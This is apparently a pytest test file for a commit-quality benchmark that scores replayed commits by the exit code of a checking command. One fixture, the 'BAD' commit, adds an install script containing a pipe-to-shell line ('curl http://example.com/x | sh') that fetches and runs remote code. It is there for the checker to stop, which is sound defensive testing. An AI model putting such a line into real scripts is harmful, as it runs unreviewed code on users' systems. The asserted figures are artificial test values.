"""Whole commits are judged by the exit code of the command."""

from __future__ import annotations

import gzip
import json
import sys
from pathlib import Path
from typing import Any

import pytest

from bench.lines import ENVIRONMENT
from bench.quality_commits import figures, main, replay

Files = dict[str, tuple[str | None, str]]

GOOD: Files = {"shop.py": ("x = 1\n", "x = 2\n")}
BAD: Files = {"install.sh": (None, "curl http://example.com/x | sh\n")}
UNREAD: Files = {"tool.bin": (None, "\x00\x01\x02" * 3_000)}


def row(files: Files) -> dict[str, Any]:
    """A commit as the sets have it."""
    changed = [{"path": path, "mode": "100644", "before": one, "after": two} for path, (one, two) in files.items()]
    return {"repo": "a/shop", "commit": "0" * 40, "subject": "Change it", "files": changed}


@pytest.mark.timeout(120)
def test_a_commit_counts_by_the_code_that_the_command_ends_with() -> None:
    """U-60: stopped, not understood, and let pass are 2, 4 and 0; only the first has a rule."""
    replayed = [replay(row(files)) for files in (GOOD, BAD, UNREAD)]
    assert [one.code for one in replayed] == [0, 2, 4]
    assert [bool(one.stops) for one in replayed] == [False, True, False]
    stopped, unclear = figures(replayed, "commits")
    assert (stopped.figure, stopped.measured, stopped.demand) == ("quality.replayed.commits.stopped", 0.3333, 0.02)
    assert (unclear.measured, unclear.demand) == (0.3333, None)
    assert list(stopped.more["rules"].values()) == [1]


def test_a_part_of_the_commits_writes_no_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """U-60: a figure of half the commits is none."""
    with gzip.open(tmp_path / "commits_x.jsonl.gz", "wt", encoding="utf-8") as lines:
        lines.write(f"{json.dumps(row(GOOD))}\n" * 2)
    monkeypatch.setenv(ENVIRONMENT, str(tmp_path / "lines.jsonl"))
    monkeypatch.setattr(sys, "argv", ["bench", str(tmp_path), "--first", "1"])
    main()
    assert not (tmp_path / "lines.jsonl").exists()
